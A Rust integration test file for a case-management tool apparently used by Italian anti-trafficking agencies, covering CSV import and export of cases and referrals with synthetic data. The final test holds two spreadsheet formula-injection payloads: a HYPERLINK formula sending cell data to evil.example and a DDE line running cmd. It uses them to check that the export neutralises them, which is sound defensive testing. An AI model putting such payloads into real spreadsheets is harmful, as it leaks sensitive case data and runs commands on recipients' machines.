//! `raccordo import` and `raccordo export`, run as real processes on a fresh SQLite file, and on
//! a fresh PostgreSQL database when `TEST_DATABASE_URL` names a server.

use std::{
    path::{Path, PathBuf},
    process::{Command, Output},
    time::Instant,
};

use chrono::Utc;
use raccordo_entities::{agency, project};
use raccordo_tests::PgDatabase;
use sea_orm::{
    ActiveValue::Set, ConnectionTrait, Database, DatabaseConnection, EntityTrait, Statement,
};

const BIN: &str = env!("CARGO_BIN_EXE_raccordo");

/// An ente that holds cases, a prefettura that may not, a commissione that sends referrals.
const ENTE: &str = "ente-bg";
const OTHER_ENTE: &str = "ente-bs";
const PREFETTURA: &str = "prefettura-bg";
const COMMISSIONE: &str = "ct-brescia";

/// A fresh database and a working folder for files.
struct TestDb {
    url: String,
    dir: PathBuf,
    backend: &'static str,
    /// The throw-away PostgreSQL database, dropped with this.
    _pg: Option<PgDatabase>,
}

impl TestDb {
    fn workdir(name: &str) -> PathBuf {
        let dir = std::env::temp_dir().join(format!(
            "raccordo-import-{name}-{}",
            uuid::Uuid::new_v4().simple()
        ));
        std::fs::create_dir_all(&dir).expect("temp dir");
        dir
    }

    async fn sqlite(name: &str) -> TestDb {
        let dir = Self::workdir(name);
        let url = format!("sqlite://{}?mode=rwc", dir.join("hub.db").display());
        TestDb::ready(TestDb {
            url,
            dir,
            backend: "sqlite",
            _pg: None,
        })
        .await
    }

    async fn postgres(name: &str) -> Option<TestDb> {
        let pg = PgDatabase::from_env().await?;
        let url = pg.url.clone();
        Some(
            TestDb::ready(TestDb {
                url,
                dir: Self::workdir(name),
                backend: "postgres",
                _pg: Some(pg),
            })
            .await,
        )
    }

    /// Migrates and registers the agencies the tests use.
    async fn ready(self) -> TestDb {
        let out = self.run(&["migrate"]);
        assert!(out.status.success(), "{}", stderr(&out));
        let db = self.conn().await;
        let now = Utc::now();
        for (id, name, kind) in [
            (ENTE, "Cooperativa Ente Bergamo", "ENTE_ANTITRATTA"),
            (OTHER_ENTE, "Associazione Ente Brescia", "ENTE_ANTITRATTA"),
            (PREFETTURA, "Prefettura di Bergamo", "PREFETTURA"),
            (
                COMMISSIONE,
                "Commissione territoriale di Brescia",
                "COMMISSIONE_TERRITORIALE",
            ),
        ] {
            agency::Entity::insert(agency::ActiveModel {
                id: Set(id.into()),
                name: Set(name.into()),
                kind: Set(kind.into()),
                province: Set(Some("BG".into())),
                city: Set(None),
                public_contact: Set(None),
                website: Set(None),
                referral_contact: Set(None),
                notes: Set(None),
                latitude: Set(None),
                longitude: Set(None),
                disabled: Set(false),
                created_at: Set(now),
                updated_at: Set(now),
            })
            .exec_without_returning(&db)
            .await
            .expect("agency");
        }
        project::Entity::insert(project::ActiveModel {
            id: Set("progetto-1".into()),
            name: Set("Derive e Approdi".into()),
            coordinator_id: Set(ENTE.into()),
            starts_on: Set(None),
            ends_on: Set(None),
            created_at: Set(now),
            updated_at: Set(now),
        })
        .exec_without_returning(&db)
        .await
        .expect("project");
        db.close().await.ok();
        self
    }

    fn run(&self, args: &[&str]) -> Output {
        Command::new(BIN)
            .arg("--database-url")
            .arg(&self.url)
            .args(args)
            .current_dir(&self.dir)
            .env_remove("DATABASE_URL")
            .env_remove("RACCORDO_POLICY")
            .env("RUST_LOG", "warn")
            .output()
            .expect("raccordo runs")
    }

    fn file(&self, name: &str, contents: impl AsRef<[u8]>) -> String {
        let path = self.dir.join(name);
        std::fs::write(&path, contents).expect("write file");
        path.display().to_string()
    }

    async fn conn(&self) -> DatabaseConnection {
        Database::connect(&self.url).await.expect("database")
    }

    async fn count(&self, sql: &str) -> i64 {
        let db = self.conn().await;
        let backend = db.get_database_backend();
        let row = db
            .query_one(Statement::from_string(backend, sql.to_string()))
            .await
            .expect("query")
            .expect("a row");
        let n: i64 = row.try_get_by_index(0).expect("count");
        db.close().await.ok();
        n
    }

    async fn cases(&self) -> i64 {
        self.count("SELECT COUNT(*) FROM cases").await
    }

    async fn log_entries(&self) -> i64 {
        self.count("SELECT COUNT(*) FROM access_log").await
    }

    async fn finish(self) {
        let _ = std::fs::remove_dir_all(&self.dir);
        // The PostgreSQL database, if any, is dropped with `self`.
    }
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn import(db: &TestDb, file: &str, extra: &[&str]) -> Output {
    let mut args = vec!["import", "cases", file, "--agency", ENTE];
    args.extend_from_slice(extra);
    db.run(&args)
}

fn export(db: &TestDb, agency: &str, output: &Path) -> Output {
    db.run(&[
        "export",
        "cases",
        "--agency",
        agency,
        "--output",
        output.to_str().unwrap_or_default(),
    ])
}

/// A generated file of `n` cases using every column and, row by row, the different spellings an
/// ente's spreadsheet may have: contract names and Italian labels, ISO and Italian dates,
/// quoted cells with commas, quotes and line breaks.
fn generated(n: usize) -> Vec<u8> {
    let phases = [
        "PRONTO_INTERVENTO",
        "prima accoglienza",
        "Seconda accoglienza",
        "PRESA_IN_CARICO_TERRITORIALE",
    ];
    let genders = ["femmina", "F", "MALE", "TRANSGENDER", "maschio"];
    let nationalities = ["NG", "Nigeria", "ro", "AL", "Costa d'Avorio", "CN"];
    let exploitation = [
        "strada",
        "SEXUAL_INDOOR|LABOUR",
        "lavorativo; accattonaggio",
        "",
        "tratta",
    ];
    let channels = [
        "unità di strada",
        "NUMERO_VERDE",
        "segretariato sociale",
        "LAW_ENFORCEMENT",
    ];
    let permits = [
        "ex art. 18",
        "richiesta protezione internazionale",
        "NONE",
        "protezione speciale",
    ];
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record([
        "code",
        "phase",
        "openedOn",
        "projectId",
        "gender",
        "ageGroup",
        "nationality",
        "exploitation",
        "emersionChannel",
        "emersionProvince",
        "accompanyingMinors",
        "pregnant",
        "alias",
        "legalName",
        "birthDate",
        "phone",
        "shelterId",
        "permitAtStart",
        "permitCurrent",
        "permitExpiresOn",
        "asylumStatus",
        "complaintFiled",
        "complaintFiledOn",
        "healthNotes",
        "psychSupport",
        "gbvIndicators",
        "gbvRiskLevel",
    ])
    .expect("header");
    for i in 0..n {
        let day = 1 + i % 28;
        let month = 1 + i % 12;
        let opened = if i % 2 == 0 {
            format!("2022-{month:02}-{day:02}")
        } else {
            format!("{day}/{month}/2022")
        };
        let row: Vec<String> = vec![
            format!("IMP-{i:05}"),
            phases[i % phases.len()].into(),
            opened,
            if i % 10 == 0 {
                "Derive e Approdi".into()
            } else if i % 10 == 1 {
                "progetto-1".into()
            } else {
                String::new()
            },
            genders[i % genders.len()].into(),
            if i % 7 == 0 {
                "minore".into()
            } else {
                "ADULT".into()
            },
            nationalities[i % nationalities.len()].into(),
            exploitation[i % exploitation.len()].into(),
            channels[i % channels.len()].into(),
            ["BG", "bs", "MI"][i % 3].into(),
            (i % 3).to_string(),
            if i % 4 == 0 {
                "sì".into()
            } else {
                "no".into()
            },
            format!("Alias {i}"),
            format!("Rossi, Maria \"{i}\""),
            format!("{:02}/03/1990", 1 + i % 28),
            format!("+39 333 {i:07}"),
            String::new(),
            permits[i % permits.len()].into(),
            permits[(i + 1) % permits.len()].into(),
            "2030-12-31".into(),
            "in attesa".into(),
            if i % 3 == 0 {
                "true".into()
            } else {
                String::new()
            },
            if i % 3 == 0 {
                "2023-02-01".into()
            } else {
                String::new()
            },
            if i % 5 == 0 {
                format!("prima riga {i}\nseconda riga")
            } else {
                String::new()
            },
            "settimanale".into(),
            if i % 2 == 0 {
                "controllo economico|isolamento".into()
            } else {
                String::new()
            },
            ["basso", "medio", "alto"][i % 3].into(),
        ];
        w.write_record(&row).expect("row");
    }
    w.into_inner().expect("csv")
}

macro_rules! on_both {
    ($name:ident) => {
        mod $name {
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn sqlite() {
                let db = super::TestDb::sqlite(stringify!($name)).await;
                super::$name(&db).await;
                db.finish().await;
            }
            #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
            async fn postgres() {
                if let Some(db) = super::TestDb::postgres(stringify!($name)).await {
                    super::$name(&db).await;
                    db.finish().await;
                } else {
                    eprintln!("TEST_DATABASE_URL is not set: the PostgreSQL run is skipped");
                }
            }
        }
    };
}

/// 5,000 rows in one all-or-nothing run; the second run changes nothing; export, import into a
/// fresh database, export again: the same file.
async fn five_thousand_rows_round_trip(db: &TestDb) {
    let file = db.file("cases.csv", generated(5000));
    let started = Instant::now();
    let out = import(db, &file, &[]);
    let first = started.elapsed();
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    assert!(
        stdout(&out).contains("5000 created, 0 unchanged, 0 rows rejected"),
        "{}",
        stdout(&out)
    );
    eprintln!("[{}] imported 5,000 rows in {:.2?}", db.backend, first);
    assert_eq!(db.cases().await, 5000);
    assert_eq!(
        db.count("SELECT COUNT(*) FROM access_log WHERE operation = 'importCases'")
            .await,
        5000
    );

    let log_before = db.log_entries().await;
    let started = Instant::now();
    let out = import(db, &file, &[]);
    eprintln!(
        "[{}] second run of 5,000 rows in {:.2?}",
        db.backend,
        started.elapsed()
    );
    assert!(out.status.success(), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("0 created, 5000 unchanged, 0 rows rejected"),
        "{}",
        stdout(&out)
    );
    assert_eq!(db.cases().await, 5000);
    // ACCESS.md §9: telling "unchanged" reads the stored values: one entry per case compared,
    // and nothing else written.
    assert_eq!(
        db.log_entries().await,
        log_before + 5000,
        "a second run writes only the reads of its comparisons"
    );
    assert_eq!(
        db.count("SELECT COUNT(*) FROM access_log WHERE operation = 'import'")
            .await,
        5000
    );

    let first_export = db.dir.join("export-1.csv");
    let out = export(db, ENTE, &first_export);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        db.count("SELECT COUNT(*) FROM access_log WHERE operation = 'export'")
            .await,
        5000,
        "one access-log entry per exported case"
    );
    let out = db.run(&["audit", "verify"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let exported = std::fs::read_to_string(&first_export).expect("export");
    assert_eq!(
        exported.lines().next().map(|l| l.split(',').count()),
        Some(29)
    );
    let mut reader = csv::Reader::from_reader(exported.as_bytes());
    let headers = reader.headers().expect("headers").clone();
    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("record")).collect();
    assert_eq!(records.len(), 5000);
    let get = |r: &csv::StringRecord, name: &str| {
        let i = headers.iter().position(|h| h == name).expect("column");
        r.get(i).unwrap_or_default().to_string()
    };
    // Row 0 (IMP-00000) as written and as the hub holds it: Italian labels become the contract's.
    let r0 = &records[0];
    assert_eq!(get(r0, "code"), "IMP-00000");
    assert_eq!(get(r0, "phase"), "PRONTO_INTERVENTO");
    assert_eq!(get(r0, "projectId"), "progetto-1");
    assert_eq!(get(r0, "gender"), "FEMALE");
    assert_eq!(get(r0, "ageGroup"), "MINOR");
    assert_eq!(get(r0, "exploitation"), "SEXUAL_STREET");
    assert_eq!(get(r0, "emersionChannel"), "OUTREACH_UNIT");
    assert_eq!(get(r0, "pregnant"), "true");
    assert_eq!(get(r0, "legalName"), "Rossi, Maria \"0\"");
    assert_eq!(get(r0, "permitAtStart"), "ART18");
    assert_eq!(get(r0, "permitCurrent"), "INTERNATIONAL_PROTECTION_REQUEST");
    assert_eq!(get(r0, "healthNotes"), "prima riga 0\nseconda riga");
    assert_eq!(get(r0, "gbvIndicators"), "controllo economico|isolamento");
    let r1 = &records[1];
    assert_eq!(get(r1, "openedOn"), "2022-02-02");
    assert_eq!(get(r1, "nationality"), "NG");
    assert_eq!(get(r1, "exploitation"), "LABOUR|SEXUAL_INDOOR");

    // Into a fresh database, under another ente id: the same data comes out again.
    let fresh = if db.backend == "postgres" {
        TestDb::postgres("round-trip").await.expect("postgres")
    } else {
        TestDb::sqlite("round-trip").await
    };
    let out = fresh.run(&[
        "import",
        "cases",
        first_export.to_str().unwrap_or_default(),
        "--agency",
        OTHER_ENTE,
    ]);
    assert!(out.status.success(), "{}", stdout(&out));
    let second_export = fresh.dir.join("export-2.csv");
    let out = export(&fresh, OTHER_ENTE, &second_export);
    assert!(out.status.success(), "{}", stderr(&out));
    let again = std::fs::read_to_string(&second_export).expect("export");
    assert!(exported == again, "the round trip changed the data");
    fresh.finish().await;
}
on_both!(five_thousand_rows_round_trip);

/// Files that are wrong as a whole, or in one row: a clear report, a non-zero exit, no case.
async fn bad_files_write_nothing(db: &TestDb) {
    let good = "code,phase,openedOn,nationality,exploitation\nA-1,PRIMA_ACCOGLIENZA,2023-01-10,NG,strada\n";
    let cases: Vec<(&str, String, Vec<&str>, Vec<&str>)> = vec![
        (
            "semicolon read as comma",
            good.replace(',', ";"),
            vec!["--delimiter", ","],
            vec!["the file seems to use ';' as delimiter: pass --delimiter ';'"],
        ),
        (
            "pipe-delimited",
            good.replace(',', "|"),
            vec![],
            vec!["the header is a single column"],
        ),
        (
            "missing code",
            "phase,openedOn\nPRIMA_ACCOGLIENZA,2023-01-10\n".into(),
            vec![],
            vec!["code", "required column missing"],
        ),
        (
            "missing phase",
            "code,openedOn\nA-1,2023-01-10\n".into(),
            vec![],
            vec!["phase", "required column missing"],
        ),
        (
            "missing openedOn",
            "codice;fase\nA-1;prima accoglienza\n".into(),
            vec![],
            vec!["openedOn", "required column missing", "data apertura"],
        ),
        (
            "unknown nationality",
            format!("{good}A-2,PRIMA_ACCOGLIENZA,2023-01-10,XX,\n"),
            vec![],
            vec!["     3  nationality", "\"XX\" is not an ISO 3166-1 alpha-2"],
        ),
        (
            "unknown enum label",
            format!("{good}A-2,PRIMA_ACCOGLIENZA,2023-01-10,NG,schiavitù\n"),
            vec![],
            vec!["     3  exploitation", "\"schiavitù\" is not an exploitation type"],
        ),
        (
            "duplicate codes",
            format!("{good}A-2,PRIMA_ACCOGLIENZA,2023-01-10,NG,\nA-1,SECONDA_ACCOGLIENZA,2023-01-11,RO,\n"),
            vec![],
            vec!["     2  code", "     4  code", "is also on row 4", "is also on row 2"],
        ),
        (
            "future date",
            "code,phase,openedOn\nA-1,PRIMA_ACCOGLIENZA,2999-01-01\n".into(),
            vec![],
            vec!["     2  openedOn", "openedOn (2999-01-01) is in the future"],
        ),
        (
            "closed case without the day it was closed",
            "code,phase,openedOn,outcome\nA-1,CLOSED,2023-01-01,AUTONOMY\n".into(),
            vec![],
            vec!["     2  closedOn", "a closed case needs the day it was closed"],
        ),
        (
            "unknown column",
            "code,phase,openedOn,colore\nA-1,PRIMA_ACCOGLIENZA,2023-01-01,blu\n".into(),
            vec![],
            vec!["colore", "unknown column"],
        ),
    ];
    for (what, contents, extra, expected) in cases {
        let file = db.file("bad.csv", contents);
        let out = import(db, &file, &extra);
        let report = format!("{}{}", stdout(&out), stderr(&out));
        assert_eq!(out.status.code(), Some(1), "{what}: {report}");
        for e in expected {
            assert!(report.contains(e), "{what}: {e:?} not in\n{report}");
        }
        if !extra.contains(&"--delimiter") {
            assert!(report.contains("nothing was written"), "{what}: {report}");
        }
        assert_eq!(db.cases().await, 0, "{what}: nothing is half-imported");
    }

    // Over the size limit: refused before it is read.
    let path = db.dir.join("huge.csv");
    let f = std::fs::File::create(&path).expect("create");
    f.set_len(50 * 1024 * 1024).expect("grow");
    let out = import(db, path.to_str().unwrap_or_default(), &[]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr(&out).contains("is 50.0 MB; an import reads files up to 20 MB"),
        "{}",
        stderr(&out)
    );
    assert_eq!(db.cases().await, 0);
    assert_eq!(db.log_entries().await, 0);
}
on_both!(bad_files_write_nothing);

/// `--partial` writes the valid rows and reports the others; `--dry-run` writes nothing.
async fn partial_and_dry_run(db: &TestDb) {
    let file = db.file(
        "mixed.csv",
        "code,phase,openedOn,gender\nP-1,PRIMA_ACCOGLIENZA,2023-01-10,F\nP-2,PRIMA_ACCOGLIENZA,10/01/2023,X\nP-3,PRIMA_ACCOGLIENZA,2023-01-10,\n",
    );
    let out = import(db, &file, &["--dry-run"]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("dry run: nothing was written"),
        "{}",
        stdout(&out)
    );
    let out = import(db, &file, &["--dry-run", "--partial"]);
    assert!(
        stdout(&out).contains("2 would be created, 0 unchanged, 1 rows rejected"),
        "{}",
        stdout(&out)
    );
    assert_eq!(db.cases().await, 0);
    assert_eq!(db.log_entries().await, 0);

    let out = import(db, &file, &["--partial"]);
    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
    let report = stdout(&out);
    assert!(
        report.contains("     3  gender") && report.contains("\"X\" is not a gender"),
        "{report}"
    );
    assert!(
        report.contains("2 created, 0 unchanged, 1 rows rejected"),
        "{report}"
    );
    assert_eq!(db.cases().await, 2);

    // A clean dry run reports what it would create, and still writes nothing.
    let clean = db.file(
        "clean.csv",
        "code,phase,openedOn\nD-1,PRIMA_ACCOGLIENZA,2023-01-10\n",
    );
    let out = import(db, &clean, &["--dry-run"]);
    assert!(out.status.success(), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("1 would be created"),
        "{}",
        stdout(&out)
    );
    assert_eq!(db.cases().await, 2);
}
on_both!(partial_and_dry_run);

/// An Italian spreadsheet as Excel saves it: `;`, Windows-1252, Italian column names and labels.
async fn italian_spreadsheet(db: &TestDb) {
    let text = "Codice;Fase;Data apertura;Nazionalità;Tipologia sfruttamento;Titolo di soggiorno;Sesso;Gravidanza;Note sanitarie\r\n\
                BG-01;Prima accoglienza;03/02/2023;Nigeria;strada | indoor;ex art. 18;femmina;sì;\"visita; ok\"\r\n\
                BG-02;pronto intervento;2023-02-04;ro;LAVORATIVO;richiesta protezione internazionale;M;no;\r\n\
                ;;;;;;;;\r\n";
    let bytes: Vec<u8> = text
        .chars()
        .map(|c| u8::try_from(u32::from(c)).expect("latin-1"))
        .collect();
    let file = db.file("italiano.csv", bytes);
    let out = import(db, &file, &[]);
    assert!(out.status.success(), "{}", stdout(&out));
    assert!(stdout(&out).contains("2 created"), "{}", stdout(&out));
    let path = db.dir.join("out.csv");
    assert!(export(db, ENTE, &path).status.success());
    let exported = std::fs::read_to_string(&path).expect("export");
    assert!(
        exported.contains(
            "BG-01,PRIMA_ACCOGLIENZA,2023-02-03,,FEMALE,,NG,SEXUAL_INDOOR|SEXUAL_STREET,"
        ),
        "{exported}"
    );
    assert!(exported.contains(",ART18,"), "{exported}");
    assert!(exported.contains(",visita; ok,"), "{exported}");

    // The same cases with a changed value: a conflict, reported, nothing changed.
    let changed = db.file("changed.csv", "codice,fase,data apertura,nazionalità\nBG-01,PRIMA_ACCOGLIENZA,2023-02-03,GH\nBG-02,PRONTO_INTERVENTO,2023-02-04,RO\n");
    let out = import(db, &changed, &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = stdout(&out);
    assert!(
        report.contains("     2  nazionalità") && report.contains("differ in: nazionalità"),
        "{report}"
    );
    assert!(
        report.contains("0 created, 1 unchanged, 1 rows rejected"),
        "{report}"
    );
    assert_eq!(db.cases().await, 2);
}
on_both!(italian_spreadsheet);

/// The agency must exist and be one the protocol lets hold cases; a code held by another agency
/// is not taken over; the export holds only the agency's own cases.
async fn agencies_and_ownership(db: &TestDb) {
    let file = db.file(
        "one.csv",
        "code,phase,openedOn\nO-1,PRIMA_ACCOGLIENZA,2023-01-10\n",
    );
    let out = db.run(&["import", "cases", &file, "--agency", "nessuno"]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("no agency has the id \"nessuno\""),
        "{}",
        stderr(&out)
    );
    let out = db.run(&["import", "cases", &file, "--agency", PREFETTURA]);
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("does not let it hold cases"),
        "{}",
        stderr(&out)
    );
    assert_eq!(db.cases().await, 0);

    assert!(db
        .run(&["import", "cases", &file, "--agency", OTHER_ENTE])
        .status
        .success());
    // The same code for another ente: whatever `createCase` answers for it, the other ente's
    // case is untouched and nothing in the answer names it.
    let out = import(db, &file, &[]);
    let report = format!("{}{}", stdout(&out), stderr(&out));
    assert!(
        !report.contains(OTHER_ENTE) && !report.contains("Brescia"),
        "{report}"
    );
    if !out.status.success() {
        assert!(report.contains("     2  code"), "{report}");
    }
    assert_eq!(
        db.count("SELECT COUNT(*) FROM cases WHERE code = 'O-1' AND owner_id = 'ente-bs' AND version = 1")
            .await,
        1
    );
    let path = db.dir.join("mine.csv");
    assert!(export(db, ENTE, &path).status.success());
    let mine = db
        .count("SELECT COUNT(*) FROM cases WHERE owner_id = 'ente-bg'")
        .await;
    let lines = std::fs::read_to_string(&path)
        .expect("export")
        .lines()
        .count();
    assert_eq!(
        lines as i64,
        1 + mine,
        "the export holds the agency's own cases only"
    );
}
on_both!(agencies_and_ownership);

/// Referrals sent by a commissione: by target name or id, idempotent, RECEIVED only.
async fn referrals(db: &TestDb) {
    let file = db.file(
        "referrals.csv",
        "ente destinatario;data ricezione;riferimento;provincia;sesso;nazionalità;stato\n\
         Cooperativa Ente Bergamo;02/03/2023;CT-1;BS;F;NG;ricevuta\n\
         ente-bs;2023-03-03;CT-2;;M;Nigeria;\n",
    );
    let run = |extra: &[&str]| {
        let mut args = vec![
            "import",
            "referrals",
            file.as_str(),
            "--agency",
            COMMISSIONE,
        ];
        args.extend_from_slice(extra);
        db.run(&args)
    };
    let out = run(&[]);
    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
    assert!(stdout(&out).contains("2 created"), "{}", stdout(&out));
    let out = run(&[]);
    assert!(
        stdout(&out).contains("0 created, 2 unchanged"),
        "{}",
        stdout(&out)
    );
    assert_eq!(db.count("SELECT COUNT(*) FROM referrals").await, 2);
    assert_eq!(
        db.count("SELECT COUNT(*) FROM referrals WHERE status = 'RECEIVED' AND province = 'BG' AND target_id = 'ente-bs'").await,
        1,
        "an empty province is the target's"
    );
    // ACCESS.md §6: requester, reference, day and target name one referral. Another target is
    // another referral; one referral named twice (by id, then by name) is sent once.
    let more = db.file(
        "more-referrals.csv",
        "target,receivedOn,subjectRef\nente-bs,2023-03-02,CT-1\nente-bg,2023-03-09,CT-9\nCooperativa Ente Bergamo,2023-03-09,CT-9\n",
    );
    let out = db.run(&["import", "referrals", &more, "--agency", COMMISSIONE]);
    assert!(out.status.success(), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("2 created, 1 unchanged"),
        "{}",
        stdout(&out)
    );
    assert_eq!(db.count("SELECT COUNT(*) FROM referrals").await, 4);

    let bad = db.file(
        "bad-referrals.csv",
        "target,receivedOn,subjectRef,status\nente-bg,2023-03-05,CT-3,CONCLUDED\nprefettura-bg,2023-03-05,CT-4,\n",
    );
    let out = db.run(&["import", "referrals", &bad, "--agency", COMMISSIONE]);
    assert_eq!(out.status.code(), Some(1));
    let report = stdout(&out);
    assert!(report.contains("RECEIVED only"), "{report}");
    assert!(
        report.contains("names no anti-trafficking ente"),
        "{report}"
    );
    assert_eq!(db.count("SELECT COUNT(*) FROM referrals").await, 4);
}
on_both!(referrals);

/// A closed case is exported with its end; importing the export again into the same hub changes
/// nothing, while a new closed case is refused (an import opens cases).
async fn closed_cases(db: &TestDb) {
    let file = db.file(
        "open.csv",
        "code,phase,openedOn\nC-1,PRIMA_ACCOGLIENZA,2023-01-10\nC-2,PRIMA_ACCOGLIENZA,2023-01-11\n",
    );
    assert!(import(db, &file, &[]).status.success());
    // As closeCase leaves it.
    let conn = db.conn().await;
    conn.execute_unprepared(
        "UPDATE cases SET phase = 'CLOSED', closed_on = '2023-06-30', outcome = 'AUTONOMY', outcome_on = '2023-06-30' WHERE code = 'C-1'",
    )
    .await
    .expect("close");
    conn.close().await.ok();
    let path = db.dir.join("with-closed.csv");
    assert!(export(db, ENTE, &path).status.success());
    let exported = std::fs::read_to_string(&path).expect("export");
    assert!(
        exported.contains("C-1,CLOSED,2023-01-10,") && exported.ends_with(",2023-06-30,AUTONOMY\nC-2,PRIMA_ACCOGLIENZA,2023-01-11,,,,,,,,,,,,,,,,,,,,,,,,,,\n"),
        "{exported}"
    );
    let out = import(db, path.to_str().unwrap_or_default(), &[]);
    assert!(out.status.success(), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("0 created, 2 unchanged"),
        "{}",
        stdout(&out)
    );
    // An outcome on an open case, a closed case without its outcome: refused.
    let new = db.file(
        "closed.csv",
        "code,phase,openedOn,closedOn,outcome\nC-3,chiuso,2023-01-10,30/06/2023,autonomia\nC-4,PRIMA_ACCOGLIENZA,2023-01-10,,AUTONOMY\nC-5,CLOSED,2023-01-10,2023-06-30,\n",
    );
    let out = import(db, &new, &[]);
    assert_eq!(out.status.code(), Some(1));
    let report = stdout(&out);
    assert!(
        report.contains("     3  outcome") && report.contains("leave it empty"),
        "{report}"
    );
    assert!(
        report.contains("     4  outcome") && report.contains("needs its outcome"),
        "{report}"
    );
    assert!(!report.contains("     2  "), "{report}");
    assert_eq!(db.cases().await, 2);
    // A closed case the hub does not have: opened, then closed as closeCase does, the closure
    // in its history.
    let new = db.file(
        "closed-ok.csv",
        "code,phase,openedOn,closedOn,outcome\nC-3,chiuso,2023-01-10,30/06/2023,autonomia\n",
    );
    let out = import(db, &new, &[]);
    assert!(out.status.success(), "{}", stdout(&out));
    assert_eq!(db.cases().await, 3);
    assert_eq!(
        db.count("SELECT COUNT(*) FROM cases WHERE code = 'C-3' AND phase = 'CLOSED' AND closed_on = '2023-06-30' AND outcome = 'AUTONOMY'")
            .await,
        1
    );
    assert_eq!(
        db.count("SELECT COUNT(*) FROM case_phase_changes p JOIN cases c ON c.id = p.case_id WHERE c.code = 'C-3' AND p.to_phase = 'CLOSED'")
            .await,
        1
    );
    let out = import(db, &new, &[]);
    assert!(
        stdout(&out).contains("0 created, 1 unchanged"),
        "{}",
        stdout(&out)
    );
}
on_both!(closed_cases);

/// Issue 19, item 2: what a joint partner may write (`gbvIndicators`, `gbvRiskLevel`) cannot run as
/// a formula in the owner's export, and the export imports back to the same values.
async fn exports_run_no_formulas(db: &TestDb) {
    let file = db.file(
        "one.csv",
        "code,phase,openedOn,phone\nC-1,PRIMA_ACCOGLIENZA,2023-01-10,+39 035 000000\n",
    );
    assert!(import(db, &file, &[]).status.success());
    let hyperlink = r#"=HYPERLINK("http://evil.example/?x="&B2&"-"&P2,"Apri scheda")"#;
    let dde = "-2+3+cmd|' /C calc'!A0";
    // As a joint partner's updateCase stores them.
    let conn = db.conn().await;
    let backend = conn.get_database_backend();
    conn.execute(Statement::from_sql_and_values(
        backend,
        match backend {
            sea_orm::DatabaseBackend::Postgres => {
                "UPDATE cases SET gbv_indicators = $1, gbv_risk_level = $2 WHERE code = 'C-1'"
            }
            _ => "UPDATE cases SET gbv_indicators = ?, gbv_risk_level = ? WHERE code = 'C-1'",
        },
        [
            serde_json::json!([hyperlink]).to_string().into(),
            dde.into(),
        ],
    ))
    .await
    .expect("the partner's values");
    conn.close().await.ok();
    let path = db.dir.join("export.csv");
    let out = export(db, ENTE, &path);
    assert!(out.status.success(), "{}", stderr(&out));
    let exported = std::fs::read_to_string(&path).expect("export");
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(exported.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        let record = record.expect("a CSV record");
        cells.extend(record.iter().map(str::to_string));
    }
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}\n{exported}"
        );
    }
    for value in [hyperlink, dde, "+39 035 000000"] {
        assert!(
            cells.contains(&format!("'{value}")),
            "{value} guarded\n{exported}"
        );
    }
    // The import undoes the guard: the round trip changes nothing.
    let out = import(db, path.to_str().unwrap_or_default(), &[]);
    assert!(out.status.success(), "{}", stdout(&out));
    assert!(
        stdout(&out).contains("0 created, 1 unchanged"),
        "{}",
        stdout(&out)
    );
}
on_both!(exports_run_no_formulas);
